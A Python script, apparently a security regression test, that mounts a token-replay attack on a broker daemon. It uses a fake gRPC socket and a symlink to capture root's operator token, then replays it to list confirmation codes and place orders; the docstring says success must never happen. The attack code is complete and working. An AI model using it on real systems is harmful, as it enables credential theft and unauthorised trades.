"""Run as an unprivileged member of the clients' group: steal root's identity token through a fake
daemon and use it on the real one.

The attacker makes a directory of its own with a fake gRPC socket and, beside it, a symbolic link
``etrade.sock.auth`` to the REAL daemon's identity socket. When root's etradectl is pointed at the
fake socket (``ETRADE_MCP_SOCKET`` kept through ``sudo -E`` or ``env_keep``), it shakes hands with
the real daemon (which sees uid 0 and issues an operator token), then sends that token in the
metadata of its first call — to the fake daemon, which keeps the call open so root's process stays
alive, and replays the token on the real socket: the codes, then ``PlaceConfirmed`` with one.

Prints one JSON object: {"token_seen": bool, "list_pending": outcome, "placed": outcome}, where an
outcome is "OK..." only if the real daemon served the call, which must never happen.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path
from typing import Any

import grpc

from broker_client.metadata_keys import API_VERSION_KEY, AUTH_KEY, CLIENT_KEY, CODE_KEY
from protos.broker.v1 import API_VERSION, operator_pb2, operator_pb2_grpc, orders_pb2, orders_pb2_grpc


class Catcher(grpc.GenericRpcHandler):
    """Answers every method by holding the call open, after noting the identity token it carried."""

    def __init__(self) -> None:
        self.token: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    def service(self, handler_call_details: grpc.HandlerCallDetails) -> Any:
        tokens = [str(v) for k, v in handler_call_details.invocation_metadata or () if k == AUTH_KEY]
        if not self.token.done():
            self.token.set_result(tokens[0] if tokens else "")  # "": root's call came without a token

        async def hold(request: bytes, context: grpc.aio.ServicerContext[Any, Any]) -> bytes:
            await asyncio.sleep(60)  # keeps root's process, and so its token, alive
            return b""

        return grpc.unary_unary_rpc_method_handler(hold)


async def replay(real: Path, token: str) -> dict[str, str]:
    metadata = ((CLIENT_KEY, "attacker/0"), (API_VERSION_KEY, API_VERSION), (AUTH_KEY, token))
    results: dict[str, str] = {}
    async with grpc.aio.insecure_channel(f"unix:{real}") as channel:
        operator = operator_pb2_grpc.OperatorStub(channel)
        try:
            listing = await operator.ListPending(operator_pb2.ListPendingRequest(), metadata=metadata, timeout=20)
        except grpc.aio.AioRpcError as exc:
            results["list_pending"] = f"{exc.code().name}:{dict(exc.trailing_metadata() or ()).get(CODE_KEY)}"
            return results
        results["list_pending"] = f"OK:{len(listing.pending)} codes"
        orders = orders_pb2_grpc.OrdersStub(channel)
        for item in listing.pending:
            request = orders_pb2.PlaceConfirmedRequest(
                pending_id=item.pending.pending_id, confirmation_code=item.confirmation_code
            )
            try:
                placed = await orders.PlaceConfirmed(request, metadata=metadata[:2], timeout=30)
                results["placed"] = f"OK:order {placed.order_id}"
            except grpc.aio.AioRpcError as exc:
                # Without the stolen token the client RPC needs our own: try again with the stolen one.
                try:
                    placed = await orders.PlaceConfirmed(request, metadata=metadata, timeout=30)
                    results["placed"] = f"OK:order {placed.order_id}"
                except grpc.aio.AioRpcError as exc2:
                    results["placed"] = f"{exc.code().name} then {exc2.code().name}"
    return results


def prepare(real: Path, lair: Path) -> Path:
    """The fake socket's path, with the link to the real identity socket beside it."""
    lair.mkdir(mode=0o755, exist_ok=True)
    (lair / (real.name + ".auth")).symlink_to(real.with_name(real.name + ".auth"))
    return lair / real.name


async def main(real: Path, fake: Path) -> dict[str, Any]:
    catcher = Catcher()
    server = grpc.aio.server()
    server.add_generic_rpc_handlers((catcher,))
    server.add_insecure_port(f"unix:{fake}")
    await server.start()
    os.chmod(fake, 0o777)
    print("ready", flush=True)
    token = await asyncio.wait_for(catcher.token, 60)
    if not token:
        await server.stop(None)
        return {"token_seen": False}
    outcome: dict[str, Any] = {"token_seen": True, **await replay(real, token)}
    await server.stop(None)
    return outcome


if __name__ == "__main__":
    real_socket = Path(sys.argv[1])
    result = asyncio.run(main(real_socket, prepare(real_socket, Path(sys.argv[2]))))
    print(json.dumps(result), flush=True)
